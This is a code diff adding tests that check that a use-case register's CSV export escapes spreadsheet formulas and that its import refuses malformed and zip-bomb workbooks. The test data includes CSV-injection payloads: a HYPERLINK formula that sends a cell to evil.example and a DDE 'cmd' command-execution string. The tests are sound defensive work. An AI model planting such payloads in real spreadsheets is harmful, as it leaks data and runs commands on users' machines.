@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
@@ -12,6 +14,7 @@ from koers.backlog.models.usecases import UseCase
 from koers.core.models import Upload
 from koers.orgs.models import Role
 from koers.testing.factories import make_member, make_usecase
+from koers.testing.hostile_files import hostile_xlsx, xlsx_with_cells
 
 
 def url(name: str, org, **kwargs) -> str:
@@ -173,3 +176,47 @@ def test_it_does_not_export_for_someone_outside_the_organisation(client, org, ot
     client.force_login(make_member(other_org))
     make_usecase(org)
     assert client.get(url("export", org)).status_code == 404
+
+
+FORMULA_TITLES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "@SUM(1,1)",
+    "-1+2",
+]
+
+
+def test_it_exports_formula_like_titles_as_text_that_imports_back_unchanged(client, lead, org):
+    for title in FORMULA_TITLES:
+        make_usecase(org, title=title, problem="=2*3")
+    client.force_login(lead)
+    content = client.get(url("export", org), {"format": "csv"}).content
+    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+    assert sorted(row["title"] for row in rows) == sorted("'" + t for t in FORMULA_TITLES)
+    assert {row["problem"] for row in rows} == {"'=2*3"}
+
+    upload(client, org, content, "register.csv")
+    preview = client.post(url("import_preview", org, pk=Upload.objects.get().pk))
+    assert preview.status_code == 302
+    assert sorted(UseCase.objects.values_list("title", flat=True)) == sorted(FORMULA_TITLES)
+    assert UseCase.objects.count() == len(FORMULA_TITLES)  # updated in place, nothing added
+
+
+def test_it_refuses_a_hostile_workbook_clearly_and_stores_nothing(lead_client, org):
+    response = upload(lead_client, org, hostile_xlsx(), "evil.xlsx")
+    assert response.status_code == 400
+    assert "says it spans A1:XFD1048576" in response.content.decode()
+    bomb = xlsx_with_cells({"A1": "title", "A2": "Chatbot"}, bomb_mb=260)
+    assert len(bomb) < 2 * 1024 * 1024
+    response = upload(lead_client, org, bomb, "bomb.xlsx")
+    assert response.status_code == 400
+    assert "unpacks to more than 256 MB" in response.content.decode()
+    assert not Upload.objects.exists()
+    assert not UseCase.objects.exists()
+
+
+def test_it_reads_a_csv_file_that_starts_with_excels_sep_line(lead_client, org):
+    upload(lead_client, org, b"sep=;\r\ntitle;problem\r\nChatbot, for HR;Slow\r\n", "excel.csv")
+    lead_client.post(url("import_preview", org, pk=Upload.objects.get().pk))
+    assert UseCase.objects.get(organisation=org).title == "Chatbot, for HR"
